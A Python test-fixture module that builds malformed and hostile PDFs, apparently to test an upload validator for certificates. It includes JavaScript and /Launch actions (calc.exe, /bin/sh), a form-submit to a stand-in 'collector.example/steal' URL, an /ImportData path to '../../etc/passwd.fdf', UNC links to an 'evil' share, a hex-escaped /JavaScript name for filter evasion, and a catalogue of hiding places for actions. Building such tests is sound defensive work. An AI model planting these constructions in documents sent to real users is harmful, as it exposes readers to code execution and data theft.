"""PDF files a careless or hostile user might upload, built with fpdf2 and pypdf."""

from __future__ import annotations

import io

from fpdf import FPDF
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)


def certificate_pdf(*lines: str) -> bytes:
    """A one-page PDF whose text is ``lines`` (a carrier's certificate, as far as text goes)."""
    pdf = FPDF()
    pdf.add_page()
    pdf.set_font("helvetica", size=12)
    for line in lines or ("Carrier issued certificate",):
        pdf.cell(text=line, new_x="LMARGIN", new_y="NEXT")
    return bytes(pdf.output())


def _writer(*lines: str) -> PdfWriter:
    return PdfWriter(clone_from=PdfReader(io.BytesIO(certificate_pdf(*lines))))


def _bytes(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def html_with_pdf_header() -> bytes:
    return (b"%PDF-1.7\n<!doctype html><html><body><h1>Certificate</h1>"
            b"<script>alert(1)</script></body></html>\n%%EOF\n")


def truncated_pdf() -> bytes:
    data = certificate_pdf("Acme Roofing LLC")
    return data[: len(data) // 2]


def encrypted_pdf(user_password: str = "secret", algorithm: str = "AES-128") -> bytes:
    writer = _writer("Acme Roofing LLC")
    writer.encrypt(user_password=user_password, owner_password="owner", algorithm=algorithm)
    return _bytes(writer)


def _open_action(writer: PdfWriter, action: DictionaryObject) -> bytes:
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    return _bytes(writer)


def open_action_javascript_pdf() -> bytes:
    return _open_action(_writer("Acme Roofing LLC"), DictionaryObject({
        NameObject("/Type"): NameObject("/Action"),
        NameObject("/S"): NameObject("/JavaScript"),
        NameObject("/JS"): TextStringObject("app.alert('hello');"),
    }))


def names_tree_javascript_pdf() -> bytes:
    """Document-level JavaScript in the /Names /JavaScript tree."""
    writer = _writer("Acme Roofing LLC")
    js = writer._add_object(DictionaryObject({
        NameObject("/S"): NameObject("/JavaScript"),
        NameObject("/JS"): TextStringObject("this.print({bUI:true});"),
    }))
    tree = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("print"), js])})
    writer._root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/JavaScript"): writer._add_object(tree)})
    return _bytes(writer)


def page_additional_action_javascript_pdf() -> bytes:
    """JavaScript run when the page opens (/AA /O), in no names tree and no /OpenAction."""
    writer = _writer("Acme Roofing LLC")
    js = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"),
                           NameObject("/JS"): TextStringObject("app.launchURL('x');")})
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): js})
    return _bytes(writer)


def launch_pdf() -> bytes:
    return _open_action(_writer("Acme Roofing LLC"), DictionaryObject({
        NameObject("/S"): NameObject("/Launch"),
        NameObject("/F"): TextStringObject("C:\\Windows\\System32\\calc.exe"),
    }))


def link_launch_pdf() -> bytes:
    """A launch action behind a link annotation on the page."""
    writer = _writer("Acme Roofing LLC")
    annotation = DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"),
        NameObject("/Subtype"): NameObject("/Link"),
        NameObject("/Rect"): ArrayObject([NumberObject(0), NumberObject(0),
                                          NumberObject(100), NumberObject(100)]),
        NameObject("/A"): DictionaryObject({
            NameObject("/S"): NameObject("/Launch"),
            NameObject("/F"): TextStringObject("/bin/sh"),
        }),
    })
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
    return _bytes(writer)


def embedded_file_pdf() -> bytes:
    writer = _writer("Acme Roofing LLC")
    writer.add_attachment("invoice.exe", b"MZ not really a program")
    return _bytes(writer)


def zero_pages_pdf() -> bytes:
    return _bytes(PdfWriter())


def hex_escaped_javascript_pdf() -> bytes:
    """/JavaScript spelt /J#61vaScript (PDF name escapes), offsets left as they fall."""
    data = open_action_javascript_pdf()
    assert b"/JavaScript" in data
    return data.replace(b"/JavaScript", b"/J#61vaScript")


# -- actions that run something or reach outside the document, and where they hide ----------


def _name(value: str) -> NameObject:
    return NameObject(value)


def _rect() -> ArrayObject:
    return ArrayObject([NumberObject(0), NumberObject(0), NumberObject(100), NumberObject(100)])


def _action(kind: str, **entries: object) -> DictionaryObject:
    action = DictionaryObject({_name("/Type"): _name("/Action"), _name("/S"): _name(kind)})
    for key, value in entries.items():
        action[_name(f"/{key}")] = value  # type: ignore[assignment]
    return action


ACTIONS = {
    "GoToR": lambda: _action("/GoToR", F=TextStringObject(r"\\fileserver\share\evil.pdf"),
                             D=ArrayObject([NumberObject(0), _name("/Fit")])),
    "GoToE": lambda: _action("/GoToE", T=DictionaryObject(
        {_name("/R"): _name("/C"), _name("/N"): TextStringObject("inner.pdf")})),
    "Launch": lambda: _action("/Launch", F=TextStringObject(r"C:\Windows\System32\calc.exe")),
    "SubmitForm": lambda: _action("/SubmitForm", F=DictionaryObject({
        _name("/FS"): _name("/URL"),
        _name("/F"): TextStringObject("http://collector.example/steal")})),
    "ImportData": lambda: _action("/ImportData", F=TextStringObject("../../etc/passwd.fdf")),
    "Rendition": lambda: _action("/Rendition", OP=NumberObject(0)),
    "Movie": lambda: _action("/Movie", T=TextStringObject("intro")),
    "Sound": lambda: _action("/Sound", Volume=NumberObject(1)),
    "RichMediaExecute": lambda: _action("/RichMediaExecute"),
    "JavaScript": lambda: _action("/JavaScript", JS=TextStringObject("app.alert(1);")),
    "GoTo3DView": lambda: _action("/GoTo3DView", V=NumberObject(0)),
    "Thread": lambda: _action(  # a thread in another file
        "/Thread", F=TextStringObject(r"\\evil\share\x.pdf"), D=NumberObject(0)),
}
"""Each refused action kind: a builder of its action dictionary."""

URI = lambda: _action("/URI", URI=TextStringObject("https://agency.example/verify"))  # noqa: E731


def _link(writer: PdfWriter, **entries: object) -> None:
    annotation = DictionaryObject({_name("/Type"): _name("/Annot"),
                                   _name("/Subtype"): _name("/Link"), _name("/Rect"): _rect()})
    for key, value in entries.items():
        annotation[_name(f"/{key}")] = value  # type: ignore[assignment]
    writer.pages[0][_name("/Annots")] = ArrayObject([writer._add_object(annotation)])


def _field(writer: PdfWriter, action: DictionaryObject) -> None:
    widget = writer._add_object(DictionaryObject({
        _name("/Type"): _name("/Annot"), _name("/Subtype"): _name("/Widget"),
        _name("/FT"): _name("/Tx"), _name("/T"): TextStringObject("holder"),
        _name("/Rect"): _rect(), _name("/AA"): DictionaryObject({_name("/K"): action})}))
    writer.pages[0][_name("/Annots")] = ArrayObject([widget])
    writer._root_object[_name("/AcroForm")] = DictionaryObject(
        {_name("/Fields"): ArrayObject([widget])})


def _outline(writer: PdfWriter, action: DictionaryObject) -> None:
    outlines = writer._add_object(DictionaryObject({_name("/Type"): _name("/Outlines")}))
    item = writer._add_object(DictionaryObject({
        _name("/Title"): TextStringObject("Certificate"), _name("/Parent"): outlines,
        _name("/A"): action}))
    outlines_dict = outlines.get_object()
    outlines_dict[_name("/First")] = item
    outlines_dict[_name("/Last")] = item
    outlines_dict[_name("/Count")] = NumberObject(1)
    writer._root_object[_name("/Outlines")] = outlines


def _go_to_then(action: DictionaryObject) -> DictionaryObject:
    """An harmless go-to within the document whose /Next runs ``action``."""
    return _action("/GoTo", D=ArrayObject([NumberObject(0), _name("/Fit")]),
                   Next=ArrayObject([_action("/GoTo", D=ArrayObject(
                       [NumberObject(0), _name("/Fit")])), action]))


def _names_tree(writer: PdfWriter, action: DictionaryObject) -> None:
    """In a leaf of a name tree (under an intermediate /Kids node), not the JavaScript one."""
    leaf = writer._add_object(DictionaryObject({
        _name("/Limits"): ArrayObject([TextStringObject("on-open"), TextStringObject("on-open")]),
        _name("/Names"): ArrayObject([TextStringObject("on-open"), writer._add_object(action)])}))
    root = writer._add_object(DictionaryObject({_name("/Kids"): ArrayObject([leaf])}))
    writer._root_object[_name("/Names")] = DictionaryObject({_name("/Dests"): root})


PLACES = {
    "OpenAction": lambda w, a: w._root_object.__setitem__(_name("/OpenAction"),
                                                          w._add_object(a)),
    "catalog-AA": lambda w, a: w._root_object.__setitem__(
        _name("/AA"), DictionaryObject({_name("/WC"): a})),
    "page-AA": lambda w, a: w.pages[0].__setitem__(
        _name("/AA"), DictionaryObject({_name("/O"): a})),
    "link-A": lambda w, a: _link(w, A=a),
    "annotation-AA": lambda w, a: _link(w, AA=DictionaryObject({_name("/E"): a})),
    "field-AA": _field,
    "OpenAction-Next": lambda w, a: w._root_object.__setitem__(
        _name("/OpenAction"), w._add_object(_go_to_then(a))),
    "link-A-Next": lambda w, a: _link(w, A=_go_to_then(a)),
    "outline-A": _outline,
    "names-tree": _names_tree,
}
"""Where an action dictionary can hide: each places one in a fresh certificate."""

AUTOMATIC_PLACES = ("OpenAction", "catalog-AA", "page-AA", "annotation-AA", "field-AA",
                    "OpenAction-Next")
"""The places whose action runs without a click (a URI action there is refused)."""


def with_action(action: DictionaryObject, place: str, *lines: str) -> bytes:
    """A certificate naming ``lines`` with ``action`` placed at ``place`` (a key of PLACES)."""
    writer = _writer(*(lines or ("Acme Roofing LLC",)))
    PLACES[place](writer, action)
    return _bytes(writer)
